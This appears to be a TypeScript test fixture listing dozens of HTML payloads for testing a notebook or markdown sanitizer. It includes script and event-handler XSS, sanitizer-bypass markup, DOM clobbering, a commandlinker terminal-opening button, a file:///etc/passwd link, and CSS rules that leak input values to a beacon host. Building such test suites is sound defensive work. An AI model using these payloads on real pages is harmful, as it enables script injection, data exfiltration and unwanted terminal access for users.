import type { Trap } from '../hostile.js';

/** Foreign HTML, as it may stand in an output or in markdown. */
export const htmlPayloads: Record<string, (trap: Trap) => string> = {
  script: ({ script }) => `<script>${script}</script>`,
  'script-src': ({ beacon }) => `<script src="${beacon}"></script><script type=module src="${beacon}"></script>`,
  'script-broken': ({ script }) => `<scr<script>ipt>${script}</scr</script>ipt><script/x>${script}</script >`,
  'script-case': ({ script }) => `<ScRiPt>${script}</sCrIpT>\u0000<scri\u0000pt>${script}</script>`,
  onerror: ({ script }) => `<img src=x onerror="${script}">`,
  'onerror-slash': ({ script }) => `<img/src/onerror=${script}>`,
  onload: ({ script }) => `<body onload="${script}"><style onload="${script}"></style>`,
  onfocus: ({ script }) => `<input autofocus onfocus="${script}"><select autofocus onfocus="${script}">`,
  ontoggle: ({ script }) => `<details open ontoggle="${script}"><summary>x</summary></details>`,
  onanimation: ({ script }) =>
    `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${script}">x</b>`,
  'svg-onload': ({ script }) => `<svg onload="${script}"><script>${script}</script></svg>`,
  'svg-animate': ({ script }) =>
    `<svg><a xlink:href="#"><animate attributeName="href" values="javascript:${script}"/><text y=9>x</text></a></svg>`,
  'svg-use': ({ beacon }) =>
    `<svg><use href="${beacon}#a"/><image href="${beacon}"/><path fill="url(${beacon})" d="M0 0h9v9z"/></svg>`,
  'svg-foreign': ({ script }) =>
    `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror="${script}"></body></foreignObject></svg>`,
  'svg-style': ({ script }) => `<svg><style><img src=x onerror="${script}"></style></svg>`,
  'math-namespace': ({ script }) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`,
  'math-href': ({ script }) =>
    `<math href="javascript:${script}"><maction actiontype="statusline" xlink:href="javascript:${script}">x</maction></math>`,
  noscript: ({ script }) => `<noscript><p title="</noscript><img src=x onerror=${script}>"></noscript>`,
  textarea: ({ script }) =>
    `<textarea></textarea><img src=x onerror=${script}></textarea><title></title><img src=x onerror=${script}>`,
  xmp: ({ script }) => `<xmp><img src=x onerror=${script}></xmp><plaintext><img src=x onerror=${script}>`,
  comment: ({ script }) =>
    `<!--><img src=x onerror=${script}>--><!--!><img src=x onerror=${script}><![CDATA[><img src=x onerror=${script}>]]><?x ><img src=x onerror=${script}>`,
  attribute: ({ script }) => `<p title='"><img src=x onerror=${script}>' class="a\u0000b" \`onclick=${script}>x</p>`,
  srcdoc: ({ script }) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  iframe: ({ beacon, script }) =>
    `<iframe src="${beacon}"></iframe><iframe src="javascript:${script}"></iframe><frameset><frame src="${beacon}"></frameset>`,
  object: ({ beacon }) =>
    `<object data="${beacon}"></object><embed src="${beacon}"><applet code="${beacon}"></applet><portal src="${beacon}"></portal>`,
  'object-data': ({ script }) =>
    `<object data="data:text/html,<script>${script}</script>"></object><embed src="data:image/svg+xml,<svg onload='${script}'/>">`,
  'meta-refresh': ({ beacon }) =>
    `<meta http-equiv="refresh" content="0;url=${beacon}"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
  base: ({ beacon }) => `<base href="${beacon}/"><a href="x">x</a><img src="x.png">`,
  link: ({ beacon }) =>
    ['stylesheet', 'preload', 'prefetch', 'dns-prefetch', 'preconnect', 'icon', 'manifest', 'modulepreload']
      .map(rel => `<link rel="${rel}" as="image" href="${beacon}">`)
      .join(''),
  form: ({ beacon, script }) =>
    `<form action="${beacon}" id=f><input name=a value=b><button formaction="javascript:${script}">x</button></form><button form=f type=submit>y</button>`,
  img: ({ beacon }) =>
    `<img src="${beacon}"><img srcset="${beacon} 2x"><picture><source srcset="${beacon}"><img></picture><input type=image src="${beacon}">`,
  'img-protocol-relative': ({ beacon }) =>
    `<img src="${beacon.replace(/^http:/, '')}"><img src="\\\\${beacon.replace(/^http:\/\//, '')}">`,
  'img-lazy': ({ beacon }) =>
    `<img loading=lazy src="${beacon}"><img lowsrc="${beacon}" dynsrc="${beacon}"><body background="${beacon}"><table background="${beacon}"><td background="${beacon}">`,
  media: ({ beacon, script }) =>
    `<video poster="${beacon}" src="${beacon}" autoplay onloadstart="${script}"><source src="${beacon}"><track src="${beacon}"></video><audio src="${beacon}" autoplay></audio>`,
  'style-import': ({ beacon }) =>
    `<style>@import "${beacon}"; @import url(${beacon}); @font-face{font-family:x;src:url(${beacon})} body{font-family:x;background:url(${beacon})}</style>`,
  'style-url': ({ beacon }) =>
    `<p style="background:url(${beacon})">a</p><p style="background-image:image-set('${beacon}' 1x);list-style:url(${beacon});cursor:url(${beacon}),auto;content:url(${beacon})">b</p>`,
  'style-escape': ({ beacon }) =>
    `<p style="background:u\\72l(${beacon})">a</p><p style="background:/**/url(${beacon})">b</p><p style="color:red;}body{background:url(${beacon})">c</p>`,
  'style-variable': ({ beacon }) =>
    `<p style="--x:url(${beacon});background:var(--x)">x</p><p style="width:expression(alert(1));behavior:url(${beacon});-moz-binding:url(${beacon})">y</p>`,
  'style-exfiltration': ({ beacon }) =>
    `<style>${['a', 'b', 'c'].map(letter => `[value^="${letter}"]{background:url(${beacon}/${letter})}`).join('')}</style><input value="abc">`,
  'style-overlay': ({ script }) =>
    `<a href="javascript:${script}" style="position:fixed;inset:0;z-index:9999;opacity:0.01;display:block">.</a>`,
  'link-javascript': ({ script }) =>
    `<a href="javascript:${script}">a</a><a href="java\tscript:${script}">b</a><a href="&#106;avascript:${script}">c</a><a href="\u0001javascript:${script}">d</a><area href="javascript:${script}">`,
  'link-data': ({ script }) =>
    `<a href="data:text/html,<script>${script}</script>">a</a><a href="vbscript:x">b</a><a href="blob:x">c</a><a href="file:///etc/passwd">d</a>`,
  'link-ping': ({ beacon, script }) =>
    `<a href="https://example.org" ping="${beacon}" download target="_self" onclick="${script}">x</a>`,
  'command-linker': ({ script }) =>
    `<button data-commandlinker-command="terminal:create-new" data-commandlinker-args='{"x":"${script}"}'>go</button><a data-commandlinker-command="apputils:reset">x</a>`,
  clobber: ({ script }) =>
    `<form id="document"><input name="cookie"><img name="body" id="nb-x"><a id="defaultView" href="javascript:${script}"></a></form><a name="location" id="location"></a><p id="cell-1">x</p>`,
  mermaid: ({ script, beacon }) =>
    `<div class="mermaid">graph TD; A["<img src=x onerror=${script}>"]; click A href "javascript:${script}"; B["<img src=${beacon}>"]</div>`,
  'mathjax-config': ({ script }) =>
    `<script type="text/x-mathjax-config">MathJax.Hub.Config({});${script}</script><script type="math/tex">\\href{javascript:${script}}{x}</script>`,
  'custom-element': ({ script }) =>
    `<x-y is=z onclick=${script}><slot name=a></slot></x-y><template shadowrootmode=open><img src=x onerror=${script}></template>`,
  dialog: ({ script }) =>
    `<dialog open onclose="${script}">x</dialog><div popover onbeforetoggle="${script}">y</div><marquee onstart="${script}">z</marquee>`,
  'deep-nesting': ({ script }) =>
    `${'<div>'.repeat(600)}<img src=x onerror=${script}>${'</div>'.repeat(600)}<script>${script}</script>`,
  table: ({ script, beacon }) =>
    `<table class="dataframe" onclick="${script}"><tr><th style="background:url(${beacon})">a</th></tr><tr><td style="background-color:red;background:url(${beacon})" onmouseover="${script}">"&lt;script&gt;${script}&lt;/script&gt;</td></tr></table>`,
  'table-styler': ({ script, beacon }) =>
    `<style>#T_a{background:url(${beacon});color:red}#T_a{content:"</style><script>${script}</script>"}</style><table><tr><th>a</th></tr><tr><td id="T_a">x</td></tr></table>`,
  'plain-form': ({ script }) => `<div class="sk-text-repr-fallback"><img src=x onerror=${script}></div>`
};
